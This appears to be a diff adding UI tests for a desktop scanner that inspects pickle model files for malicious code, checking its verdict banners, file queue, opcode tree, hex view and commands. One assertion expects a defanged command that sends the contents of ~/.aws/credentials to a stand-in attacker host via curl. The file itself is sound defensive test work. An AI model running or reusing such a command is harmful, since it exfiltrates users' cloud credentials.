@@ -1,0 +1,328 @@
+// @vitest-environment jsdom
+import { cleanup, fireEvent } from '@testing-library/react';
+import { afterEach, describe, expect, test } from 'vitest';
+import { OP } from '../shared/pickle/opcodes';
+import { renderApp, screen, waitFor, within } from './testing/render-app';
+import {
+  allSamples,
+  archiveSample,
+  dangerousSample,
+  inconclusiveSample,
+  quietSample,
+  suspiciousSample,
+} from './testing/samples';
+
+afterEach(cleanup);
+
+const key = (name: string, more: object = {}) =>
+  fireEvent.keyDown(document.activeElement ?? document.body, { key: name, ...more });
+const banner = () => screen.getByTestId('verdict-banner');
+const tree = () => screen.findByRole('treegrid', { name: 'Opcodes' });
+
+describe('first run', () => {
+  test('is a drop target that says what happens to files', async () => {
+    await renderApp();
+    expect(screen.getByText('Files are read, never loaded. Nothing leaves this computer.')).toBeTruthy();
+    expect(screen.queryByRole('listbox')).toBeNull();
+  });
+
+  test('opens the sample set', async () => {
+    const { bridge } = await renderApp();
+    fireEvent.click(screen.getByRole('button', { name: 'Open the sample set' }));
+    expect(await screen.findByRole('option', { name: /iris_classifier/ })).toBeTruthy();
+    expect(bridge.requests.map(({ name }) => name)).toContain('artifacts.addSamples');
+  });
+
+  test('takes what is dropped anywhere, as File objects', async () => {
+    await renderApp();
+    const file = new File(['x'], 'model.pkl');
+    fireEvent.dragEnter(document.body, { dataTransfer: { types: ['Files'], files: [file] } });
+    expect(screen.getByText('Drop to inspect')).toBeTruthy();
+    fireEvent.drop(document.body, { dataTransfer: { types: ['Files'], files: [file] } });
+    expect(await screen.findByRole('listbox', { name: 'Files' })).toBeTruthy();
+    expect(screen.queryByText('Drop to inspect')).toBeNull();
+  });
+});
+
+describe('verdict', () => {
+  const cases = [
+    [dangerousSample(), 'Dangerous', 'octagon', /runs a shell command: curl https\[:\]\/\/attacker\[\.\]example/],
+    [suspiciousSample(), 'Suspicious', 'triangle', /which nobody has vouched for/],
+    [quietSample(), 'No findings', 'disc', /not a promise/],
+    [inconclusiveSample(), 'Inconclusive', 'ring', /Part of this file could not be understood: 0xa to 0x137/],
+  ] as const;
+  for (const [sample, word, shape, sentence] of cases)
+    test(`${word} has its word, its shape and a sentence`, async () => {
+      const { bridge } = await renderApp();
+      bridge.add([sample]);
+      await waitFor(() => expect(within(banner()).getByText(word)).toBeTruthy());
+      expect(banner().querySelector('svg')?.dataset.shape).toBe(shape);
+      expect(banner().textContent).toMatch(sentence);
+      expect(document.body.textContent).not.toMatch(/\bsafe\b/i);
+    });
+
+  test('shows the command as code and defanged', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([dangerousSample()]);
+    await waitFor(() =>
+      expect(banner().querySelector('code')?.textContent).toBe(
+        'curl https[:]//attacker[.]example?data=$(cat ~/.aws/credentials)',
+      ),
+    );
+  });
+
+  test('is told before the scan ends', async () => {
+    const { bridge } = await renderApp();
+    const sample = dangerousSample();
+    const [id = ''] = bridge.add([sample], false);
+    expect(await screen.findByText('Scanning')).toBeTruthy();
+    bridge.scanner.push({
+      kind: 'progress',
+      artifactId: id,
+      progress: { readBytes: 50, totalBytes: 100, opcodes: 9, format: 'pickle', bytesPerSecond: 1024 },
+    });
+    bridge.scanner.push({
+      kind: 'findings',
+      artifactId: id,
+      findings: sample.report.findings,
+      verdictSoFar: 'dangerous',
+    });
+    await waitFor(() => expect(within(banner()).getByText('Dangerous')).toBeTruthy());
+    expect(banner().textContent).toMatch(/The scan goes on: 50 %/);
+  });
+
+  test('a scan that breaks off is inconclusive and can be tried again', async () => {
+    const { bridge } = await renderApp();
+    const [id = ''] = bridge.add([quietSample()], false);
+    bridge.emit('scan.state', { id, state: 'failed', error: { code: 'scannerCrashed', message: 'x' } });
+    await waitFor(() => expect(within(banner()).getByText('Inconclusive')).toBeTruthy());
+    fireEvent.click(within(screen.getByRole('alert')).getByRole('button', { name: 'Scan again' }));
+    await waitFor(() => expect(within(banner()).getByText('No findings')).toBeTruthy());
+  });
+});
+
+describe('queue', () => {
+  test('counts by verdict, worst first, and filters', async () => {
+    const { bridge } = await renderApp();
+    bridge.add(allSamples().toReversed());
+    await screen.findByRole('button', { name: 'Dangerous: 2' });
+    expect(screen.getByRole('button', { name: 'No findings: 2' })).toBeTruthy();
+    const names = () => screen.getAllByRole('option').map((option) => option.getAttribute('aria-label'));
+    expect(names()[0]).toMatch(/Dangerous/);
+    expect(names().at(-1)).toMatch(/No findings/);
+    fireEvent.click(screen.getByRole('button', { name: 'Suspicious: 1' }));
+    expect(names()).toHaveLength(1);
+  });
+
+  test('moves by keyboard and removes by command', async () => {
+    const { bridge, session } = await renderApp();
+    const ids = bridge.add([dangerousSample('a.pkl'), dangerousSample('b.pkl')]);
+    await screen.findByRole('option', { name: /b\.pkl, Dangerous/ });
+    const list = screen.getByRole('listbox', { name: 'Files' });
+    list.focus();
+    fireEvent.keyDown(list, { key: 'ArrowDown' });
+    await waitFor(() => expect(within(banner()).getByText('b.pkl')).toBeTruthy());
+    key('Delete');
+    await waitFor(() => expect(session.queue.getState().items.size).toBe(1));
+    expect(bridge.requests).toContainEqual({ name: 'artifacts.remove', input: { ids: [ids[1]] } });
+  });
+
+  test('ten thousand files need no more than the rows in sight', async () => {
+    const { bridge } = await renderApp();
+    bridge.add(
+      Array.from({ length: 10_000 }, (_, index) => quietSample(`model-${index}.pkl`)),
+      false,
+    );
+    await screen.findByText('All 10,000');
+    expect(screen.getAllByRole('option').length).toBeLessThan(40);
+  });
+});
+
+describe('finding, opcode and bytes', () => {
+  test('the worst finding is selected everywhere when a file opens', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([dangerousSample()]);
+    await waitFor(() => expect(screen.getByRole('heading', { name: /REDUCE 0x52 at 0xa53/ })).toBeTruthy());
+    fireEvent.mouseDown(screen.getByRole('tab', { name: /Opcodes/ }), { button: 0 });
+    const row = await waitFor(async () => within(await tree()).getByRole('row', { selected: true }));
+    expect(row.textContent).toMatch(/0xa53.*REDUCE.*posix\.system/);
+    await waitFor(() => expect(document.querySelector('.hex-bytes .selected')?.textContent).toBe('52'));
+  });
+
+  test('selecting a finding selects its row and its bytes', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([archiveSample()]);
+    fireEvent.mouseDown(await screen.findByRole('tab', { name: /Findings/ }), { button: 0 });
+    const list = await screen.findByRole('grid', { name: 'Findings' });
+    fireEvent.click(within(within(list).getByRole('row', { name: /Imports/ })).getByRole('button'));
+    const row = await waitFor(async () => within(await tree()).getByRole('row', { selected: true }));
+    expect(row.textContent).toMatch(/STACK_GLOBAL/);
+    const hex = screen.getByRole('grid', { name: 'Bytes of the stream' });
+    await waitFor(() => expect(within(hex).getByRole('gridcell', { selected: true }).textContent).toBe('93'));
+  });
+
+  test('a byte selects the opcode that holds it', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([quietSample()]);
+    fireEvent.mouseDown(await screen.findByRole('tab', { name: 'Hex' }), { button: 0 });
+    const cell = await waitFor(
+      () =>
+        document.querySelector<HTMLElement>('.hex-bytes [data-offset="7"]') ??
+        Promise.reject(new Error('no bytes yet')),
+    );
+    fireEvent.click(cell);
+    await waitFor(() => expect(screen.getByRole('heading', { name: /SHORT_BINUNICODE 0x8c at 0x5/ })).toBeTruthy());
+  });
+
+  test('the tree is moved through by keyboard, folds, and steps', async () => {
+    const { bridge, session } = await renderApp();
+    bridge.add([quietSample()]);
+    fireEvent.mouseDown(await screen.findByRole('tab', { name: 'Opcodes' }), { button: 0 });
+    const grid = await tree();
+    await within(grid).findByRole('row', { name: /PROTO/ });
+    for (let step = 1; step <= 3; step++) {
+      fireEvent.keyDown(grid, { key: 'ArrowDown' });
+      await waitFor(() => expect(session.selection.getState().line?.row).toBe(step));
+    }
+    expect(session.selection.getState().line?.code).toBe(OP.MARK);
+    const before = Number(grid.getAttribute('aria-rowcount'));
+    fireEvent.keyDown(grid, { key: 'ArrowLeft' });
+    await waitFor(() => expect(Number(grid.getAttribute('aria-rowcount'))).toBe(5 + 1));
+    expect(within(grid).getByRole('row', { expanded: false }).textContent).toMatch(/120 rows to SETITEMS/);
+    fireEvent.keyDown(grid, { key: 'ArrowRight' });
+    await waitFor(() => expect(Number(grid.getAttribute('aria-rowcount'))).toBe(before));
+    fireEvent.click(screen.getByRole('button', { name: 'Step' }));
+    fireEvent.keyDown(grid, { key: 'ArrowRight' });
+    await waitFor(() => expect(session.selection.getState().line?.row).toBe(4));
+    expect((await screen.findByTestId('stack-change')).textContent).toMatch(/'feature_0'/);
+  });
+
+  test('filters by segment and text', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([dangerousSample()]);
+    fireEvent.mouseDown(await screen.findByRole('tab', { name: /Opcodes/ }), { button: 0 });
+    const grid = await tree();
+    fireEvent.click(await screen.findByRole('radio', { name: 'Imports 2' }));
+    await waitFor(() => expect(grid.getAttribute('aria-rowcount')).toBe('2'));
+    fireEvent.click(screen.getByRole('radio', { name: /^All/ }));
+    fireEvent.change(screen.getByRole('searchbox', { name: /Filter/ }), { target: { value: 'sepal' } });
+    await waitFor(() => expect(grid.getAttribute('aria-rowcount')).toBe('2'));
+  });
+});
+
+describe('tabs', () => {
+  test('stand only where there is something to show', async () => {
+    const { bridge, session } = await renderApp();
+    const [quiet, archive] = bridge.add([quietSample(), archiveSample()]);
+    await screen.findByRole('button', { name: 'Dangerous: 1' });
+    const names = () => screen.getAllByRole('tab').map((tab) => tab.textContent);
+    session.show(quiet ?? null);
+    await waitFor(() => expect(names()).toEqual(['Overview', 'Opcodes', 'Hex']));
+    session.show(archive ?? null);
+    await waitFor(() => expect(names()).toEqual(['Overview', 'Findings2', 'Opcodes', 'Hex', 'Members']));
+  });
+
+  test('members are a tree with flags', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([archiveSample()]);
+    fireEvent.mouseDown(await screen.findByRole('tab', { name: 'Members' }), { button: 0 });
+    const grid = await screen.findByRole('treegrid', { name: 'Members' });
+    expect(within(grid).getByRole('row', { name: /version.*duplicateMember/ })).toBeTruthy();
+  });
+
+  test('the load story is in order and leads to the bytes', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([dangerousSample()]);
+    const steps = await waitFor(() => screen.getAllByRole('button', { name: /Imports|Makes|Calls/ }));
+    expect(steps.map((step) => step.textContent?.slice(0, 8))).toEqual([
+      '1Imports',
+      '2Makes s',
+      '3Imports',
+      '4Calls p',
+    ]);
+    fireEvent.click(steps[3] as HTMLElement);
+    await waitFor(async () =>
+      expect(within(await tree()).getByRole('row', { selected: true }).textContent).toMatch(/REDUCE/),
+    );
+  });
+});
+
+describe('commands', () => {
+  test('the palette opens by key, finds and runs', async () => {
+    const { bridge, session } = await renderApp();
+    bridge.add([dangerousSample()]);
+    await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
+    key('k', { ctrlKey: true });
+    const input = await screen.findByPlaceholderText('Search, go to offset, run a command');
+    fireEvent.change(input, { target: { value: 'sha' } });
+    fireEvent.keyDown(input, { key: 'Enter' });
+    await waitFor(() => expect(bridge.clipboard).toEqual([dangerousSample().report.sha256]));
+    expect(screen.queryByPlaceholderText('Search, go to offset, run a command')).toBeNull();
+  });
+
+  test('goes to an offset typed into the palette', async () => {
+    const { bridge, session } = await renderApp();
+    bridge.add([dangerousSample()]);
+    await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
+    key('g', { ctrlKey: true });
+    const input = await screen.findByPlaceholderText(/Offset:/);
+    fireEvent.change(input, { target: { value: '0xa10' } });
+    fireEvent.keyDown(input, { key: 'Enter' });
+    await waitFor(() => expect(session.selection.getState().line?.code).toBe(OP.STACK_GLOBAL));
+  });
+
+  test('the main process may run a row, and nothing that is no row', async () => {
+    const { bridge, session } = await renderApp();
+    bridge.add(allSamples());
+    await screen.findByRole('button', { name: 'Dangerous: 2' });
+    bridge.emit('app.command', { command: 'view.select', argument: 'scaler.pkl' });
+    await waitFor(() => expect(within(banner()).getByText('scaler.pkl')).toBeTruthy());
+    bridge.emit('app.command', { command: 'view.tab', argument: 'hex' });
+    await waitFor(() => expect(screen.getByRole('tab', { name: 'Hex', selected: true })).toBeTruthy());
+    bridge.emit('app.command', { command: 'constructor' });
+    bridge.emit('app.command', { command: 'view.tab', argument: 'nonsense' });
+    expect(session.view.getState().tab).toBe('hex');
+  });
+
+  test('? shows the keys of the table', async () => {
+    await renderApp();
+    key('?', { shiftKey: true });
+    const dialog = await screen.findByRole('dialog', { name: 'Keys' });
+    expect(within(dialog).getByText('Go to offset…')).toBeTruthy();
+  });
+
+  test('evidence names the finding so that it can be found again, and nothing in it can be clicked', async () => {
+    const { bridge } = await renderApp();
+    bridge.add([dangerousSample()]);
+    fireEvent.click(await screen.findByRole('button', { name: 'Copy as evidence' }));
+    await waitFor(() => expect(bridge.clipboard).toHaveLength(1));
+    expect(bridge.clipboard[0]).toMatch(/CRITICAL dangerous-call[\s\S]*SHA-256: 9c29[\s\S]*0xa53, 1 bytes/);
+    expect(bridge.clipboard[0]).not.toContain('https://');
+  });
+});
+
+test('every control has a name', async () => {
+  const { bridge, session } = await renderApp();
+  bridge.add([archiveSample()]);
+  await waitFor(() => expect(session.opened.getState().status).toBe('ready'));
+  for (const tab of ['overview', 'findings', 'opcodes', 'hex', 'members'] as const) {
+    session.view.setState({ tab });
+    await waitFor(() => expect(screen.getAllByRole('tab', { selected: true })).toHaveLength(1));
+    for (const role of [
+      'button',
+      'textbox',
+      'searchbox',
+      'combobox',
+      'slider',
+      'separator',
+      'grid',
+      'treegrid',
+      'listbox',
+      'radio',
+    ])
+      for (const control of screen.queryAllByRole(role)) {
+        const name = control.getAttribute('aria-label') ?? control.textContent;
+        expect(name, `${tab}: ${control.outerHTML.slice(0, 120)}`).toBeTruthy();
+      }
+  }
+});
